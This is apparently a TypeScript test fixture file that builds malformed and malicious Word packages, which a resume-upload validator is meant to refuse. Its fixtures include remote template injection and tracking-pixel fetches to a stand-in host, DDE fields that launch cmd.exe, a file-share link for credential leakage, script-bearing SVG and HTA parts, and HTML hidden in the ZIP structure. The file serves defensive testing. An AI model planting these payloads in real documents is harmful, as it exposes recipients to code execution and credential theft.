import { relationships, sampleDocx, wordPackage } from './sample-files';

/**
 * Word packages that fetch, run or carry something through parts a regular-expression check
 * reads differently from Word: issue 18's findings and their relatives. Each is refused
 * (email-service/fixtures/resumes/refused holds them as files).
 */

const RELS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';

const settingsRels = (rels: string) => wordPackage({}, { 'word/_rels/settings.xml.rels': rels });

/** A remote template with the attributes in single quotes (issue 18: passed the old check). */
export const docxRemoteTemplateSingleQuoted = () =>
  settingsRels(
    `${XML}<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>` +
      `<Relationship Id='rId1' Type='${RELS}/attachedTemplate' Target='http://198.51.100.1/t.dotm' TargetMode='External'/>` +
      '</Relationships>',
  );

/** The same with its names written as character references, which an XML parser reads as letters. */
export const docxRemoteTemplateCharacterReferences = () =>
  settingsRels(
    relationships(
      `<Relationship Id="rId1" Type="${RELS}/&#x61;ttachedTemplate" Target="http://198.51.100.1/t.dotm" TargetMode="&#69;xternal"/>`,
    ),
  );

/** The same in UTF-16, as a byte order mark allows. */
export const docxRemoteTemplateUtf16 = () => {
  const xml = relationships(
    `<Relationship Id="rId1" Type="${RELS}/attachedTemplate" Target="http://198.51.100.1/t.dotm" TargetMode="External"/>`,
  ).replace('encoding="UTF-8"', 'encoding="UTF-16"');
  return wordPackage(
    {},
    { 'word/_rels/settings.xml.rels': Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml, 'utf16le')]) },
  );
};

/** A picture linked from a web server, fetched when the document opens (a tracking pixel, a credential leak). */
export const docxLinkedPicture = () =>
  wordPackage({
    documentRels: `<Relationship Id="rId9" Type="${RELS}/image" Target="http://198.51.100.1/pixel.png" TargetMode="External"/>`,
  });

/** altChunk: another document (here a web archive) imported into this one when it opens. */
export const docxAltChunk = () =>
  wordPackage(
    {
      contentTypesExtra: '<Default Extension="mht" ContentType="message/rfc822"/>',
      documentRels: `<Relationship Id="rId9" Type="${RELS}/aFChunk" Target="chunk.mht"/>`,
      body: '<w:altChunk r:id="rId9"/>',
    },
    { 'word/chunk.mht': 'MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>' },
  );

/** A DDE field that starts a program, its instruction split over runs as Word writes long ones. */
export const docxDdeField = () =>
  wordPackage({
    body:
      '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>' +
      '<w:r><w:instrText xml:space="preserve">EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>' +
      '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
  });

/** The same as a simple field. */
export const docxDdeSimpleField = () =>
  wordPackage({
    body: '<w:p><w:fldSimple w:instr=" DDE &quot;cmd&quot; &quot;/c calc&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>',
  });

/** A field that fetches a picture from a web server. */
export const docxIncludePicture = () =>
  wordPackage({
    body: '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://198.51.100.1/x.png&quot; \\d "/></w:p>',
  });

/** A link to a file share (a click sends the reader's Windows credentials there). */
export const docxFileShareLink = () =>
  wordPackage({
    documentRels: `<Relationship Id="rId9" Type="${RELS}/hyperlink" Target="file://198.51.100.1/share/cv.docx" TargetMode="External"/>`,
  });

/** An ActiveX control. */
export const docxActiveX = () =>
  wordPackage(
    {
      contentTypesExtra: '<Default Extension="ax" ContentType="application/vnd.ms-office.activeX+xml"/>',
      documentRels: `<Relationship Id="rId9" Type="${RELS}/control" Target="activeX/activeX1.xml"/>`,
      body: '<w:p><w:r><w:object><w:control r:id="rId9" w:name="x"/></w:object></w:r></w:p>',
    },
    { 'word/activeX/activeX1.ax': `${XML}<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>` },
  );

/** An SVG picture with a script in it. */
export const docxSvgWithScript = () =>
  wordPackage(
    { contentTypesExtra: '<Default Extension="svg" ContentType="image/svg+xml"/>' },
    {
      'word/media/image2.svg':
        '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script><rect width="1" height="1"/></svg>',
    },
  );

/** A web page after the ZIP's end: a ZIP reader never sees it, a browser sniffing the file does. */
export const docxWithHtmlAppended = () =>
  Buffer.concat([sampleDocx(), Buffer.from('<html><body><script>alert(document.cookie)</script></body></html>')]);

/** A web page in the ZIP's comment. */
export const docxWithHtmlComment = () => wordPackage({}, {}, { comment: '<script>alert(document.cookie)</script>' });

/** A program between two parts' records, where no entry points. */
export const docxWithBytesBetweenParts = () =>
  wordPackage({}, {}, { after: { 'word/document.xml': Buffer.from('MZ\u0090\u0000 hidden program') } });

/** A part the content types do not name at all. */
export const docxWithUnlistedPart = () =>
  wordPackage({}, { 'word/payload.hta': '<script>new ActiveXObject("WScript.Shell")</script>' });
